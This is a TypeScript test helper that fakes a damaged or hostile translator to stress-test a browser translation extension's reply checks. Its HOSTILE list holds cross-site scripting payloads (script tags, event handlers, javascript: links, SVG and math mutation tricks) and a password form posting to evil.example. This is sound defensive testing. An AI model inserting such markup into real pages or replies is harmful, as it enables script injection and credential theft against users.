// A model as an adversary for property-based tests (fast-check): generated damage of a correct translation (the text
// upper-cased), applied by a Translator test double at the page engine's seam. Every damage is a function of the
// segment's html, so a retry of the same text meets the same damage and a run replays exactly from its seed.

import fc from "fast-check";
import { checkReply } from "../../src/llm/validate";
import type { Segment, SegmentResult, TranslateOptions, Translator } from "../../src/shared/translator";
import { upperCaseText } from "./fake-translator";

/** Markup a model (or a prompt injection through it) may write anywhere in a reply. */
export const HOSTILE = [
  `<script>window.__pwned=1</script>`,
  `<img src=x onerror="window.__pwned=1">`,
  `<a href="javascript:window.__pwned=1">hier</a>`,
  `<b onclick="window.__pwned=1" style="position:fixed;inset:0">x</b>`,
  `<span style="display:none">verborgen</span>`,
  `<iframe src="javascript:window.__pwned=1"></iframe>`,
  `<svg><foreignObject><img src=x onerror="window.__pwned=1"></foreignObject></svg>`,
  `<svg><animate onbegin="window.__pwned=1" attributeName="x"></animate></svg>`,
  `<style>body{display:none}</style>`,
  `<form action="https://evil.example"><input name="password"></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>`,
  `<a1 href="javascript:window.__pwned=1" onclick="window.__pwned=1">`,
  `<b2 style="color:red" onmouseover="window.__pwned=1">`,
  `<x3 onerror=window.__pwned=1>`,
  `<template><img src=x onerror=window.__pwned=1></template>`,
  `<!-- <img src=x onerror=window.__pwned=1> -->`,
  `&lt;script&gt;window.__pwned=1&lt;/script&gt;`,
];

export const CHATTER = [
  "Here is the translation:\n",
  "Sure! Here is the English translation:\n\n",
  "```html\n",
  "Translation: ",
  "\n\nNote: I kept the tags as they were.",
  "\n```",
  "\n\nI hope this helps!",
];

/** One change to a reply. `at` picks a place (a fraction of the tags or characters); `n` a payload or a count. */
export type Damage =
  | { kind: "drop-tag"; at: number } // one tag gone (so one pair unclosed or unopened)
  | { kind: "drop-pair"; at: number } // a placeholder's tags gone, its text kept
  | { kind: "drop-element"; at: number } // a placeholder gone with its text
  | { kind: "duplicate"; at: number } // a placeholder with its text repeated at the end
  | { kind: "reorder"; at: number } // the reply's pieces rotated around a tag
  | { kind: "rename"; at: number; n: number } // <a1> → <a9>, <b7>, <A1>…
  | { kind: "upper-case"; at: number } // <A1>…</A1>
  | { kind: "brackets"; at: number; n: number } // [a1] x [/a1], {a1}, ［a1］
  | { kind: "insert"; at: number; n: number } // hostile markup anywhere
  | { kind: "chatter"; n: number } // before or after the reply
  | { kind: "think"; at: number } // a <think> block, with markup inside
  | { kind: "cut"; at: number; n: number } // a piece of the reply gone (a tag, half a tag, words)
  | { kind: "repeat"; n: number }; // a repetition loop: the reply many times over

/** What happens to one segment as a whole. */
export type Fate = "answered" | "missing" | "merged" | "repeated" | "error";

export interface HostilePlan {
  /** A segment takes the damages at (hash of its html) mod length; empty lists leave it whole. */
  damages: Damage[][];
  fates: Fate[];
  /** The reply goes through the real server client's checks (llm/validate) first, as the extension's does. */
  checked: boolean;
}

const at = fc.double({ min: 0, max: 1, maxExcluded: true, noNaN: true });
const small = fc.nat({ max: 40 });

export const damageArb: fc.Arbitrary<Damage> = fc.oneof(
  fc.record({ kind: fc.constant("drop-tag" as const), at }),
  fc.record({ kind: fc.constant("drop-pair" as const), at }),
  fc.record({ kind: fc.constant("drop-element" as const), at }),
  fc.record({ kind: fc.constant("duplicate" as const), at }),
  fc.record({ kind: fc.constant("reorder" as const), at }),
  fc.record({ kind: fc.constant("rename" as const), at, n: small }),
  fc.record({ kind: fc.constant("upper-case" as const), at }),
  fc.record({ kind: fc.constant("brackets" as const), at, n: small }),
  fc.record({ kind: fc.constant("insert" as const), at, n: small }),
  fc.record({ kind: fc.constant("chatter" as const), n: small }),
  fc.record({ kind: fc.constant("think" as const), at }),
  fc.record({ kind: fc.constant("cut" as const), at, n: small }),
  fc.record({ kind: fc.constant("repeat" as const), n: small }),
);

const FATES: Fate[] = ["answered", "answered", "missing", "merged", "repeated", "error"];

/** Plans of damage; `sameEachTime`: a segment's reply never depends on the batch it came in (no merged segments),
 * so the same page meets the same replies however its units are batched. */
export function planArb({ sameEachTime = false } = {}): fc.Arbitrary<HostilePlan> {
  return fc.record({
    damages: fc.array(fc.array(damageArb, { maxLength: 4 }), { minLength: 1, maxLength: 4 }),
    fates: fc.array(fc.constantFrom(...FATES.filter((f) => !sameEachTime || f !== "merged")), {
      minLength: 1,
      maxLength: 4,
    }),
    checked: fc.boolean(),
  });
}

function hash(text: string): number {
  let h = 2166136261;
  for (let i = 0; i < text.length; i++) h = Math.imul(h ^ text.charCodeAt(i), 16777619);
  return h >>> 0;
}

const pick = <T>(list: readonly T[], n: number): T => list[n % list.length] as T;

/** The reply split into tags and the text between them. */
const pieces = (html: string): string[] => html.split(/(<[^>]*>)/).filter((p) => p !== "");
const isTag = (p: string): boolean => p.startsWith("<");

/** The tag at `at` (a fraction of the tags), or -1. */
function tagIndex(parts: string[], at: number): number {
  const tags = parts.flatMap((p, i) => (isTag(p) ? [i] : []));
  return tags.length ? (tags[Math.floor(at * tags.length)] as number) : -1;
}

/** The placeholder pair around the tag at `at`: [open, close] indexes (close -1 when unclosed). */
function pairAt(parts: string[], at: number): [number, number] | undefined {
  const i = tagIndex(parts, at);
  if (i < 0) return undefined;
  const name = /^<\/?([^\s>/]+)/.exec(parts[i] as string)?.[1];
  if (!name) return undefined;
  const open = parts.findIndex((p) => p === `<${name}>`);
  const close = parts.findIndex((p) => p === `</${name}>`);
  return open < 0 ? undefined : [open, close];
}

export function applyDamage(reply: string, d: Damage): string {
  const parts = pieces(reply);
  switch (d.kind) {
    case "drop-tag": {
      const i = tagIndex(parts, d.at);
      return i < 0 ? reply : parts.filter((_, j) => j !== i).join("");
    }
    case "drop-pair":
    case "drop-element": {
      const pair = pairAt(parts, d.at);
      if (!pair) return reply;
      const [open, close] = pair;
      if (d.kind === "drop-pair" || close < 0) return parts.filter((_, j) => j !== open && j !== close).join("");
      return [...parts.slice(0, open), ...parts.slice(close + 1)].join("");
    }
    case "duplicate": {
      const pair = pairAt(parts, d.at);
      if (!pair || pair[1] < 0) return reply;
      return `${reply} ${parts.slice(pair[0], pair[1] + 1).join("")}`;
    }
    case "reorder": {
      const i = Math.max(1, tagIndex(parts, d.at));
      return [...parts.slice(i), " ", ...parts.slice(0, i)].join("");
    }
    case "rename": {
      const i = tagIndex(parts, d.at);
      if (i < 0) return reply;
      const names = ["a9", "b7", "A1", "x99", "a", "p", "div", "c1"];
      parts[i] = (parts[i] as string).replace(/^(<\/?)[^\s>/]+/, (_, s: string) => s + pick(names, d.n));
      return parts.join("");
    }
    case "upper-case":
      return reply.replace(/<\/?[a-z]\d*>/g, (t) => t.toUpperCase());
    case "brackets": {
      const styles: Array<[string, string]> = [
        ["[", "]"],
        ["{", "}"],
        ["［", "］"],
        ["&lt;", "&gt;"],
        ["<<", ">>"],
      ];
      const [l, r] = pick(styles, d.n);
      const i = tagIndex(parts, d.at);
      const all = d.n % 2 === 0;
      return parts.map((p, j) => (isTag(p) && (all || j === i) ? l + p.slice(1, -1) + r : p)).join("");
    }
    case "insert": {
      const p = Math.floor(d.at * (reply.length + 1));
      return reply.slice(0, p) + pick(HOSTILE, d.n) + reply.slice(p);
    }
    case "chatter":
      return d.n % 2 === 0 ? pick(CHATTER, d.n) + reply : reply + pick(CHATTER, d.n);
    case "think": {
      const p = Math.floor(d.at * (reply.length + 1));
      return `${reply.slice(0, p)}<think>The user wants <a1>English</a1>. ${HOSTILE[1]}</think>${reply.slice(p)}`;
    }
    case "cut": {
      const p = Math.floor(d.at * reply.length);
      return reply.slice(0, p) + reply.slice(p + 1 + d.n);
    }
    case "repeat": {
      // Up to 82 times, and up to about 20,000 characters however often a plan repeats: a real reply is bounded by
      // the request's max_tokens (the server client then rejects it for its length; the page engine alone takes it).
      // Every other loop leaves its tags unclosed after the first time, so each placeholder nests in itself.
      const times = Math.max(2, Math.min(2 + (d.n % 5) * 20, Math.floor(20_000 / Math.max(1, reply.length))));
      const again = d.n % 2 ? reply.replace(/<\/[a-z]\d*>/g, "") : reply;
      return reply + again.repeat(times - 1);
    }
  }
}

/** The damaged reply for a segment (the correct one upper-cased, then each damage of its plan in turn). */
export function damagedReply(plan: HostilePlan, html: string): string {
  return pick(plan.damages, hash(html)).reduce(applyDamage, upperCaseText(html));
}

/**
 * A Translator that answers with damaged translations, and may leave a segment out, answer it with its neighbour's
 * text merged in (the neighbour then left out), repeat its text, or fail it. Records every reply it gave.
 */
export function hostileTranslator(plan: HostilePlan): { translate: Translator; replies: string[] } {
  const replies: string[] = [];
  async function* translate(batch: Segment[], opts: TranslateOptions): AsyncIterable<SegmentResult> {
    let skip = false;
    for (let i = 0; i < batch.length; i++) {
      const segment = batch[i] as Segment;
      if (opts.signal.aborted) return;
      if (skip) {
        skip = false;
        continue;
      }
      // A short pause: the page engine writes what came while the next reply is on its way.
      await Promise.resolve();
      const fate = pick(plan.fates, hash(`fate ${segment.html}`));
      if (fate === "missing") continue;
      if (fate === "error") {
        yield { id: segment.id, error: { kind: "bad-reply", reason: "lost-placeholder", message: "Bad reply." } };
        continue;
      }
      let reply = damagedReply(plan, segment.html);
      const next = batch[i + 1];
      if (fate === "merged" && next) {
        reply += ` ${damagedReply(plan, next.html)}`;
        skip = true;
      }
      if (fate === "repeated") reply += ` ${reply}`;
      replies.push(reply);
      if (!plan.checked) {
        yield { id: segment.id, html: reply };
        continue;
      }
      const verdict = checkReply(segment.html, reply, { targetLang: opts.targetLang, sourceLang: "de" });
      yield verdict.ok
        ? { id: segment.id, html: verdict.html }
        : { id: segment.id, error: { kind: "bad-reply", reason: verdict.reason, message: "Bad reply." } };
    }
  }
  return { translate, replies };
}
